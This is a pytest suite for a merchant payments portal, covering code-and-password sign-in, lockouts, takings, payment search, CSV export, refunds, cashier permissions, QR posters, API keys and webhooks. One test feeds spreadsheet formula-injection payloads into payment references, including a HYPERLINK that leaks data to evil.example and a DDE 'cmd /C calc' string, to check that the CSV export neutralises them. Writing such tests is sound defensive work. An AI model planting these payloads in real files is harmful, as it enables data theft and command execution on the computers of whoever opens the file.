"""The merchant portal over real HTTP on loopback, without script: sign-in with a code texted
or mailed, and a password (set at the first sign-in), the password's lock, today's takings and their
live stream, payments searched and exported, a partial refund with its reason moving the
right money, the QR poster and the till's dynamic code, and what a cashier may not do."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from urllib.parse import urlencode

import httpx
import pytest
from PIL import Image

from colony.api.context import ApiContext
from colony.credentials import attempts_max
from colony.kernel.clock import NS_PER_S, ManualClock
from colony.merchants import (
    DAY_NS,
    Merchant,
    MerchantUserService,
    PayoutResult,
    PayoutService,
    UserResult,
    day_of,
    payout_reference,
)
from colony.payments import PaymentSearch, parse
from colony.phones import PhoneProofService
from colony.webhooks import WebhookTargets
from tests.api.test_wallet_api import OPERATOR, operator_headers
from tests.web.visitor import Visitor, code_sent_to, events_of, words

Served = tuple[httpx.Client, ApiContext, ManualClock]
OWNER = "+6590008801"
CASHIER = "+6590008802"
PAYER = "+6581239001"
PASSWORD = "kaya toast 42"
SHOP = {
    "legal_name": "Hawker Chan Pte Ltd", "display_name": "Hawker Chan", "mcc": "5812",
    "country": "SG", "city": "Singapore", "currency": "SGD", "discount_bps": 150,
}  # fmt: skip


@dataclass
class Shop:
    api: httpx.Client
    ctx: ApiContext
    clock: ManualClock
    merchant: Merchant
    opened: list[Visitor]

    def visitor(self) -> Visitor:
        made = Visitor(str(self.api.base_url))
        self.opened.append(made)
        return made

    def pay(self, amount_minor: int, reference: str, key: str) -> int:
        from colony.api.idempotency import transfer_id_for

        pid = transfer_id_for("test", key)
        payload = self.ctx.payments.merchant_qr(self.merchant)
        outcome = self.ctx.payments.pay_by_qr(
            PAYER, "SGD", payload, amount_minor, pid, reference=reference
        )
        assert outcome.result.name == "ok", outcome.result
        return pid


@pytest.fixture
def shop(served_at: Served) -> Iterator[Shop]:
    api, ctx, clock = served_at
    made = api.post(
        "/v1/merchants", json=SHOP, headers=operator_headers(ctx) | {"Idempotency-Key": "shop"}
    )
    assert made.status_code == 201, made.text
    merchant = ctx.merchants.by_id(made.json()["id"])
    assert merchant is not None
    users = ctx.service(MerchantUserService)
    assert users.add(merchant.id, OWNER, "Chan Hon Meng", "owner")[0].name == "ok"
    assert ctx.wallets.open_wallet(PAYER, "Mei Tan", "SGD")[0].name == "ok"
    assert ctx.wallets.cash_in(PAYER, "SGD", 100_000).result.name == "ok"
    opened: list[Visitor] = []
    yield Shop(api, ctx, clock, merchant, opened)
    for visitor in opened:
        visitor.close()


def signed_in(shop: Shop, phone: str = OWNER, *, first: bool = True) -> Visitor:
    """Number, texted code, then the password: set at the first sign-in, typed after."""
    visitor = shop.visitor()
    assert visitor.post("/merchant/signin", {"login": phone}).status_code == 303
    proved = visitor.post("/merchant/signin/code", {"code": code_sent_to(shop.api, phone)})
    if first:
        assert proved.headers["location"] == "/merchant/password/new", proved.text[:400]
        fields = {"password": PASSWORD, "password_again": PASSWORD}
        done = visitor.post("/merchant/password/new", fields)
    else:
        assert proved.headers["location"] == "/merchant/signin/password", proved.text[:400]
        done = visitor.post("/merchant/signin/password", {"password": PASSWORD})
    assert done.headers["location"] == "/merchant", done.text[:400]
    return visitor


def test_sign_in_with_a_code_then_a_password_set_at_the_first_time(shop: Shop) -> None:
    owner = signed_in(shop)
    home = owner.text("/merchant")
    assert "Hawker Chan · Chan Hon Meng (Owner)" in home
    assert "Net today SGD 0.00" in home
    owner.post("/merchant/signout", {}, form_at="/merchant")
    assert owner.get("/merchant").headers["location"] == "/merchant/signin"
    signed_in(shop, first=False)


def test_a_number_that_is_no_users_gets_no_code_and_cannot_sign_in(shop: Shop) -> None:
    stranger = shop.visitor()
    sent = stranger.post("/merchant/signin", {"login": "+6590000000"})
    assert sent.headers["location"] == "/merchant/signin/code"
    refused = stranger.post("/merchant/signin/code", {"code": "123456"})
    assert refused.status_code == 400
    assert "That code is wrong" in words(refused.text)


def asked_codes(shop: Shop, login: str, times: int) -> list[tuple[int, str]]:
    """Each request's status and page words, each from a new visitor (no cookie kept)."""
    answers = []
    for _ in range(times):
        sent = shop.visitor().post("/merchant/signin", {"login": login})
        answers.append((sent.status_code, words(sent.text)))
    return answers


def test_a_stranger_reaches_the_code_limit_at_the_same_request_as_a_user(shop: Shop) -> None:
    users = shop.ctx.service(MerchantUserService)
    added = users.add(shop.merchant.id, CASHIER, "Siti", "cashier", "siti@hawker.example")
    assert added[0] is UserResult.ok
    for user, stranger, kind in (
        (CASHIER, "+6590000000", "number"), ("siti@hawker.example", "x@y.example", "address")
    ):  # fmt: skip
        users_answers = asked_codes(shop, user, 7)
        assert [status for status, _ in users_answers] == [303] * 5 + [429] * 2
        assert f"Too many codes were asked for this {kind}: try in 15" in users_answers[-1][1]
        assert asked_codes(shop, stranger, 7) == users_answers
    outbox = shop.ctx.service(PhoneProofService)
    assert len(outbox.outbox(None, 50, CASHIER)) == 5
    assert outbox.outbox(None, 50, "+6590000000") == []


def test_five_requests_by_someone_else_keep_a_user_out_for_15_minutes_only(shop: Shop) -> None:
    assert [status for status, _ in asked_codes(shop, OWNER, 6)] == [303] * 5 + [429]
    shop.clock.advance(14 * 60)
    assert [status for status, _ in asked_codes(shop, OWNER, 1)] == [429]
    shop.clock.advance(60)
    signed_in(shop)


def mailed_code(shop: Shop, address: str) -> str:
    return shop.ctx.service(PhoneProofService).email_outbox(None, 1, address)[0].text[:6]


def test_sign_in_with_a_code_mailed_to_the_users_email_address(shop: Shop) -> None:
    users = shop.ctx.service(MerchantUserService)
    added = users.add(shop.merchant.id, CASHIER, "Siti", "cashier", "siti@hawker.example")
    assert added[0] is UserResult.ok
    visitor = shop.visitor()
    sent = visitor.post("/merchant/signin", {"login": " Siti@Hawker.Example "})
    assert sent.headers["location"] == "/merchant/signin/code", sent.text[:400]
    page = words(visitor.text("/merchant/signin/code"))
    assert "If siti@hawker.example belongs to a shop's user, we mailed it a 6-digit code" in page
    wrong = visitor.post("/merchant/signin/code", {"code": "000000"})
    assert "That code is wrong" in words(wrong.text)
    code = mailed_code(shop, "siti@hawker.example")
    proved = visitor.post("/merchant/signin/code", {"code": code})
    assert proved.headers["location"] == "/merchant/password/new", proved.text[:400]
    fields = {"password": PASSWORD, "password_again": PASSWORD}
    assert visitor.post("/merchant/password/new", fields).headers["location"] == "/merchant"
    assert "Hawker Chan · Siti (Cashier)" in visitor.text("/merchant")
    # An address that is no user's gets no mail, and reads the same.
    stranger = shop.visitor()
    assert stranger.post("/merchant/signin", {"login": "who@else.example"}).status_code == 303
    assert shop.ctx.service(PhoneProofService).email_outbox(None, 10, "who@else.example") == []


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("81234567", "Type the number with its country code, such as +65 8123 4567."),
        ("siti@hawker", "Type an email address such as name@example.com."),
        ("", "Type the number with its country code, such as +65 8123 4567."),
    ],
)
def test_what_is_no_number_or_address_is_refused_by_name(shop: Shop, typed: str, said: str) -> None:
    refused = shop.visitor().post("/merchant/signin", {"login": typed})
    assert refused.status_code == 400
    assert said in words(refused.text)


def test_wrong_passwords_lock_the_user_out(shop: Shop) -> None:
    signed_in(shop)  # sets the password
    visitor = shop.visitor()
    visitor.post("/merchant/signin", {"login": OWNER})
    visitor.post("/merchant/signin/code", {"code": code_sent_to(shop.api, OWNER)})
    for left in range(attempts_max - 1, 0, -1):
        wrong = visitor.post("/merchant/signin/password", {"password": "not the password"})
        assert wrong.status_code == 400
        assert f"{left} tries left" in words(wrong.text)
    locked = visitor.post("/merchant/signin/password", {"password": "not the password"})
    assert "Too many wrong passwords: try again in 15 min." in words(locked.text)
    still = visitor.post("/merchant/signin/password", {"password": PASSWORD})
    assert still.status_code == 400, "the right password waits for the lock"
    assert visitor.get("/merchant").status_code == 303


def test_todays_takings_and_the_latest_payments(shop: Shop) -> None:
    owner = signed_in(shop)
    shop.pay(550, "T1", "p1")
    shop.pay(1_200, "T2", "p2")
    home = owner.text("/merchant")
    assert "Payments ( 2 ) SGD 17.50" in home
    assert "Fees SGD 0.26" in home  # 1.5 % of 5.50 (0.08) and of 12.00 (0.18)
    assert "Net today SGD 17.24" in home
    assert home.index("T2") < home.index("T1"), "newest first"


def test_the_live_stream_sends_an_event_after_a_payment(shop: Shop) -> None:
    owner = signed_in(shop)
    with owner.client.stream("GET", "/merchant/events") as stream:
        assert stream.headers["content-type"].startswith("text/event-stream")
        events = events_of(stream.iter_lines(), "takings")
        first = next(events)
        assert first["payments"] == "0"
        shop.pay(880, "LIVE-1", "live")
        after = next(events)
    assert after["payments"] == "1"
    assert after["gross"] == "SGD\xa08.80"
    assert after["rows"][0]["what"] == "LIVE-1"


def test_the_list_shows_what_became_of_each_authorisation(shop: Shop) -> None:
    owner = signed_in(shop)
    payload = shop.ctx.payments.merchant_qr(shop.merchant)
    ids = {}
    for reference, amount in (("A-HELD", 400), ("A-CAPT", 900), ("A-VOID", 300)):
        held = shop.ctx.payments.authorise(PAYER, "SGD", payload, amount, reference=reference)
        assert held.result.name == "ok" and held.payment_id is not None
        ids[reference] = held.payment_id
    assert shop.ctx.payments.capture(ids["A-CAPT"], 600).result.name == "ok"
    assert shop.ctx.payments.void(ids["A-VOID"]).result.name == "ok"
    shop.pay(250, "A-PAID", "paid")
    refused = shop.ctx.payments.pay_by_qr(PAYER, "SGD", payload, 10**9, reference="A-NONE")
    assert refused.result.name == "insufficient_funds"
    assert shop.ctx.payments.records is not None
    assert shop.ctx.payments.records.search(shop.merchant.id, PaymentSearch("A-NONE"), None, 1)
    listed = owner.text("/merchant/payments")
    assert "A-NONE" not in listed  # recorded, but the ledger refused it: no payment
    assert "A-PAID SGD 2.50 Paid" in listed
    assert "A-VOID SGD 3.00 Canceled" in listed
    assert "A-CAPT SGD 6.00 Paid" in listed  # what was captured of it
    assert "A-HELD SGD 4.00 Held" in listed


def test_payments_are_searched_by_reference_amount_and_day(shop: Shop) -> None:
    owner = signed_in(shop)
    for n, amount in enumerate((300, 450, 300)):
        shop.pay(amount, f"R-{n}", f"s{n}")
    by_reference = owner.text("/merchant/payments?reference=R-1")
    assert "R-1" in by_reference and "R-0" not in by_reference
    by_amount = owner.text("/merchant/payments?amount=3.00")
    assert "R-0" in by_amount and "R-2" in by_amount and "R-1" not in by_amount
    by_comma = owner.text("/merchant/payments?amount=4,50")  # a decimal comma
    assert "R-1" in by_comma and "R-0" not in by_comma
    for mistyped in ("abc", "-5", "99999999999999999999999"):
        refused = owner.get(f"/merchant/payments?amount={mistyped}")
        assert refused.status_code == 400, mistyped
        assert "amount: an amount above zero, such as 12.50" in words(refused.text)
    assert "R-0" in owner.text("/merchant/payments?day=2026-01-01")
    assert "No payments yet." in owner.text("/merchant/payments?day=2026-01-02")


def test_the_list_pages_with_a_cursor(shop: Shop) -> None:
    owner = signed_in(shop)
    for n in range(27):
        shop.pay(100 + n, f"P-{n:02d}", f"page{n}")
    first = owner.get("/merchant/payments").text
    assert "P-26" in first and "P-01" not in first
    older = first.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0]
    assert "P-01" in owner.text(older.replace("&amp;", "&"))


def _link(page: str, rel: str) -> str:
    """The href of the link marked `rel` (or `download`), unescaped as a browser follows it."""
    return unescape(page.split(rel)[0].rsplit('href="', 1)[1].split('"')[0])


def test_the_links_of_a_search_keep_what_was_searched(shop: Shop) -> None:
    """A reference holds what a payer writes: '&', '#', '+', '%' and spaces reach the next
    page and the export as typed, so the file holds what the list shows."""
    owner = signed_in(shop)
    typed = "A&B #1+50% off"
    for n in range(27):
        shop.pay(100 + n, typed, f"s{n}")
    shop.pay(100, "A", "other")
    search = "/merchant/payments?" + urlencode({"reference": typed})
    page = owner.get(search).text
    exported = owner.get(_link(page, "download"))
    references = [r["reference"] for r in csv.DictReader(io.StringIO(exported.text))]
    assert references == [typed] * 27
    older = owner.text(_link(page, 'rel="next"'))
    assert typed in older and older.count(typed) == 2  # the 2 oldest of the 27, not "A"


def test_the_csv_export_holds_the_payments_found(shop: Shop) -> None:
    owner = signed_in(shop)
    shop.pay(550, "CSV-1", "c1")
    shop.pay(990, "CSV-2", "c2")
    exported = owner.get("/merchant/payments.csv")
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["reference"], r["amount_minor"], r["status"]) for r in rows] == [
        ("CSV-2", "990", "succeeded"),
        ("CSV-1", "550", "succeeded"),
    ]
    only = list(
        csv.DictReader(io.StringIO(owner.get("/merchant/payments.csv?reference=CSV-1").text))
    )
    assert [r["reference"] for r in only] == ["CSV-1"]


@pytest.mark.parametrize(
    ("written", "exported"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
         '\'=HYPERLINK("http://evil.example/?x="&A1,"Refund")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Table 4 = 2 pax", "Table 4 = 2 pax"),  # a formula's sign only matters first
        ("x\r=1+1", "x\r=1+1"),  # quoted in its cell: a CR starts no row
        ("x\n=1+1", "x\n=1+1"),
    ],
)  # fmt: skip
def test_a_payers_text_in_the_csv_is_never_read_as_a_formula(
    shop: Shop, written: str, exported: str
) -> None:
    """The payer writes the reference and the description; the merchant opens the file in a
    spreadsheet. A leading apostrophe keeps either one text."""
    from colony.api.idempotency import transfer_id_for

    owner = signed_in(shop)
    payload = shop.ctx.payments.merchant_qr(shop.merchant)
    paid = shop.ctx.payments.pay_by_qr(
        PAYER, "SGD", payload, 101, transfer_id_for("test", "formula"),
        reference=written, description=written,
    )  # fmt: skip
    assert paid.result.name == "ok", paid.result
    exported_file = owner.get("/merchant/payments.csv").text
    (row,) = csv.DictReader(io.StringIO(exported_file, newline=""))
    assert (row["reference"], row["description"]) == (exported, exported)
    # As a spreadsheet splits it: rows at any line break outside quotes.
    assert exported_file.count('"') % 2 == 0
    unquoted = "".join(exported_file.split('"')[::2])
    assert len(unquoted.splitlines()) == 2  # the header and the one payment


def _balances(shop: Shop) -> tuple[int, int]:
    wallet = shop.ctx.wallet_store.by_phone(PAYER, "SGD")
    assert wallet is not None
    (account,) = shop.ctx.ledger.lookup_accounts([shop.merchant.account_id])
    return shop.ctx.wallets.balance(wallet), account.credits_posted - account.debits_posted


def test_a_partial_refund_with_its_reason_moves_the_right_money_once(shop: Shop) -> None:
    owner = signed_in(shop)
    pid = shop.pay(2_000, "REF-1", "r1")
    page = f"/merchant/payments/pay_{pid:032x}"
    payer_before, shop_before = _balances(shop)
    no_reason = owner.post(f"{page}/refund", {"amount": "5.00", "reason": ""}, form_at=page)
    assert no_reason.status_code == 400
    assert _balances(shop) == (payer_before, shop_before)
    shown = owner.get(page).text
    op = shown.split('name="op" value="')[1].split('"')[0]
    csrf = shown.split('name="csrf" value="')[1].split('"')[0]
    fields = {"csrf": csrf, "op": op, "amount": "5.00", "reason": "one dish was cold"}
    assert owner.client.post(f"{page}/refund", data=fields).status_code == 303
    assert owner.client.post(f"{page}/refund", data=fields).status_code == 303  # sent twice
    assert _balances(shop) == (payer_before + 500, shop_before - 500)
    detail = owner.text(page)
    assert "Partly refunded" in detail
    assert "one dish was cold" in detail
    assert "Up to SGD 15.00 is left to refund." in detail
    too_much = owner.post(f"{page}/refund", {"amount": "15.01", "reason": "all"}, form_at=page)
    assert too_much.status_code == 400
    assert "more than is left to refund" in words(too_much.text)
    assert "Refunds ( 1 ) SGD 5.00" in owner.text("/merchant")


def test_a_cashier_sees_takings_but_may_not_refund_nor_manage(shop: Shop) -> None:
    owner = signed_in(shop)
    added = owner.post("/merchant/staff", {"phone": "+65 9000 8802", "name": "Siti"})
    assert added.status_code == 303, added.text[:400]
    assert "Siti not signed in yet +6590008802 Cashier" in owner.text("/merchant/staff")
    pid = shop.pay(1_000, "C-1", "cash1")
    cashier = signed_in(shop, CASHIER)
    assert "Payments ( 1 ) SGD 10.00" in cashier.text("/merchant")
    page = f"/merchant/payments/pay_{pid:032x}"
    assert 'name="reason"' not in cashier.get(page).text
    shown = cashier.get(page).text
    csrf = shown.split('name="csrf" value="')[1].split('"')[0]
    before = _balances(shop)
    forged = {"csrf": csrf, "op": "ab" * 16, "amount": "10.00", "reason": "mine now"}
    refused = cashier.client.post(f"{page}/refund", data=forged)
    assert refused.status_code == 403
    assert _balances(shop) == before
    for path in ("/merchant/keys", "/merchant/webhook", "/merchant/staff"):
        assert cashier.get(path).status_code == 403, path
    assert cashier.get("/merchant/charge?amount=2.50").status_code == 200


def test_the_poster_and_the_tills_dynamic_code_carry_the_merchants_payload(shop: Shop) -> None:
    owner = signed_in(shop)
    poster = owner.text("/merchant/poster")
    assert "Hawker Chan" in poster and "Scan to pay with your wallet" in poster
    png = owner.get("/merchant/qr.png")
    assert png.headers["content-type"] == "image/png" and png.content[:8] == b"\x89PNG\r\n\x1a\n"
    svg = owner.get("/merchant/poster.svg")
    assert svg.headers["content-type"].startswith("image/svg+xml")
    assert "Hawker Chan" in svg.text and "Colony wallet app" in svg.text
    charged = owner.get("/merchant/charge?amount=12.50&reference=T7")
    payload = charged.text.split('data-testid="payload">')[1].split("<")[0]
    code = parse(payload)
    assert code.crc_valid and code.point_of_initiation == "dynamic"
    assert shop.merchant.id in str(code.merchant_account_information)
    assert code.merchant_name == "Hawker Chan"
    assert code.transaction_amount == "12.50"
    image = owner.get("/merchant/charge.png?amount_minor=1250&reference=T7")
    assert image.content[:8] == b"\x89PNG\r\n\x1a\n"
    assert owner.get("/merchant/charge?amount=-1").status_code == 400
    # A decimal comma is a decimal mark: 12.50, never 1,250.00.
    comma = owner.get("/merchant/charge?amount=12,50")
    assert comma.status_code == 200
    payload = comma.text.split('data-testid="payload">')[1].split("<")[0]
    assert parse(payload).transaction_amount == "12.50"
    # Past what a code's amount field holds: said on the till's own page, no code.
    huge = owner.get("/merchant/charge?amount=12345678901.99")
    assert huge.status_code == 400 and 'data-testid="payload"' not in huge.text
    assert "A code holds at most SGD 9,999,999,999.99." in words(huge.text)
    assert "Charge" in words(huge.text)  # the till's form, not a bare page
    largest = owner.get("/merchant/charge?amount=9999999999.99")
    payload = largest.text.split('data-testid="payload">')[1].split("<")[0]
    assert parse(payload).transaction_amount == "9999999999.99"


def test_api_keys_and_the_webhook_endpoint_from_the_portal(shop: Shop) -> None:
    owner = signed_in(shop)
    long_name = owner.post("/merchant/keys", {"name": "t" * 500, "scope_payments:read": "1"})
    assert long_name.status_code == 400
    assert "Give the key a name of up to" in words(long_name.text)  # the limit said
    made = owner.post("/merchant/keys", {"name": "till 3", "scope_payments:read": "1"})
    assert made.status_code == 200
    secret = made.text.split('data-testid="secret">')[1].split("<")[0]
    assert secret.startswith("mk_")
    listed = shop.api.get("/v1/payments", headers={"Authorization": f"Bearer {secret}"})
    assert listed.status_code == 200
    refused = shop.api.post(
        "/v1/merchants/me/api_keys", json={"name": "x", "scopes": ["keys:write"]},
        headers={"Authorization": f"Bearer {secret}", "Idempotency-Key": "k"},
    )  # fmt: skip
    assert refused.status_code == 403, "the key holds only the scope chosen"
    row = owner.get("/merchant/keys").text.split("till 3")[1]
    key_id = row.split("/merchant/keys/")[1].split("/revoke")[0]
    owner.post(f"/merchant/keys/{key_id}/revoke", {}, form_at="/merchant/keys")
    assert (
        shop.api.get("/v1/payments", headers={"Authorization": f"Bearer {secret}"}).status_code
        == 401
    )
    bad = owner.post("/merchant/webhook", {"url": "http://example.com/hook"})
    assert bad.status_code == 400
    assert shop.ctx.webhook_store.endpoint(shop.merchant.id) is None
    # example.com as if resolved to a public address (no DNS in tests).
    shop.ctx.webhook_targets = WebhookTargets(resolve=lambda host, port: ["93.184.215.14"])
    good = owner.post("/merchant/webhook", {"url": "https://example.com/hook"})
    assert good.status_code == 200 and "whsec_" in good.text
    assert shop.ctx.webhook_store.endpoint(shop.merchant.id) is not None


def test_the_daily_report_shows_fees_net_and_what_was_paid_out(shop: Shop) -> None:
    owner = signed_in(shop)
    shop.pay(10_000, "D-1", "d1")
    report = owner.text("/merchant/reports")
    assert "SGD 100.00 (1) SGD 0.00 (0) SGD 1.50 SGD 98.50 — —" in report
    assert "not recorded" not in report
    day = day_of(shop.clock.now_ns())
    shop.clock.set_ns(day + DAY_NS + 3_600 * NS_PER_S)  # the next day, 01:00 UTC
    made = PayoutService(shop.ctx.ledger, shop.clock).pay_out(shop.merchant, day, "dbs")
    assert (made.result, made.amount_minor) == (PayoutResult.ok, 98_50)
    owner = signed_in(shop, first=False)  # a day on: the first sign-in's session is over
    shown = owner.get("/merchant/reports").text
    reference = payout_reference(made.transfer_id)
    assert f'<span class="mono">{reference}</span>' in shown
    report = words(shown)
    assert f"SGD 100.00 (1) SGD 0.00 (0) SGD 1.50 SGD 98.50 — SGD 98.50 {reference}" in report
    assert "Paid out" in report and "paid out to your bank" in report


def test_the_poster_prints_as_pdf_and_png(shop: Shop) -> None:
    owner = signed_in(shop)
    pdf = owner.get("/merchant/poster.pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF-") and b"Hawker Chan" in pdf.content  # its title
    assert pdf.content.rstrip().endswith(b"%%EOF")
    png = owner.get("/merchant/poster.png")
    assert png.headers["content-type"] == "image/png"
    image = Image.open(io.BytesIO(png.content))
    assert image.size == (1240, 1754)
    # The code's middle band is a mix of dark and light modules; the margins are white.
    band = image.convert("L").crop((300, 900, 940, 910)).get_flattened_data()
    assert min(band) < 64 and max(band) > 192
    assert set(image.convert("L").crop((0, 1500, 100, 1600)).get_flattened_data()) == {255}
    assert owner.get("/merchant/poster.gif").status_code == 404


def test_adding_another_shops_number_reads_as_adding_a_new_one(shop: Shop) -> None:
    """docs/adr/0115: the answer and the list are alike for both; only the holder is told."""
    other = shop.api.post(
        "/v1/merchants",
        json=SHOP | {"display_name": "Kopi Corner"},
        headers=operator_headers(shop.ctx) | {"Idempotency-Key": "kopi"},
    )
    users = shop.ctx.service(MerchantUserService)
    assert users.add(other.json()["id"], "+6590008807", "Ravi", "owner")[0] is UserResult.ok
    owner = signed_in(shop)
    fresh = owner.post("/merchant/staff", {"phone": "+65 9000 8806", "name": "Mei"})
    taken = owner.post("/merchant/staff", {"phone": "+65 9000 8807", "name": "Ravi"})
    assert (fresh.status_code, fresh.headers["location"]) == (303, "/merchant/staff")
    assert (taken.status_code, taken.headers["location"]) == (303, "/merchant/staff")
    listed = words(owner.text("/merchant/staff"))
    assert "Mei not signed in yet +6590008806 Cashier Remove" in listed
    assert "Ravi not signed in yet +6590008807 Cashier Remove" in listed
    texts = shop.api.get(
        "/v1/sms_outbox", params={"phone": "+6590008807", "limit": 5}, headers=OPERATOR
    ).json()["data"]
    assert "Hawker Chan tried to add you to its staff" in str(texts[0]["text"])
    own = owner.post("/merchant/staff", {"phone": "+65 9000 8806", "name": "Mei again"})
    assert own.status_code == 400 and "That number is one of your staff already" in words(own.text)
    ravi = next(u for u in users.invitations_of(shop.merchant.id) if u.name == "Ravi")
    removed = owner.post(f"/merchant/staff/{ravi.id}/remove", {}, form_at="/merchant/staff")
    assert removed.status_code == 303
    assert "Ravi" not in words(owner.text("/merchant/staff"))
    assert users.by_phone("+6590008807") is not None  # Kopi Corner's owner is untouched


def test_an_invited_number_another_shop_let_go_signs_in_to_the_inviting_shop(shop: Shop) -> None:
    """docs/adr/0115: kept as an invitation while Kopi Corner held the number; once Kopi
    Corner removes its cashier, the number's next sign-in makes them Hawker Chan's, and the
    owner's list shows the same row signed in."""
    kopi = shop.api.post(
        "/v1/merchants",
        json=SHOP | {"display_name": "Kopi Corner"},
        headers=operator_headers(shop.ctx) | {"Idempotency-Key": "kopi"},
    ).json()["id"]
    users = shop.ctx.service(MerchantUserService)
    _, ravi = users.add(kopi, "+6590008807", "Ravi", "cashier")
    assert ravi is not None
    owner = signed_in(shop)
    owner.post("/merchant/staff", {"phone": "+65 9000 8807", "name": "Ravi K"})
    assert "Ravi K not signed in yet +6590008807" in words(owner.text("/merchant/staff"))
    at_kopi = signed_in(shop, "+6590008807")
    assert "Kopi Corner · Ravi (Cashier)" in at_kopi.text("/merchant")
    assert users.remove(kopi, ravi.id) is UserResult.ok
    at_hawker = signed_in(shop, "+6590008807")  # a code, then a password set anew
    assert "Hawker Chan · Ravi K (Cashier)" in at_hawker.text("/merchant")
    listed = words(owner.text("/merchant/staff"))
    assert "Ravi K +6590008807 Cashier" in listed and "Ravi K not signed in yet" not in listed
    assert users.invitations_of(shop.merchant.id) == []
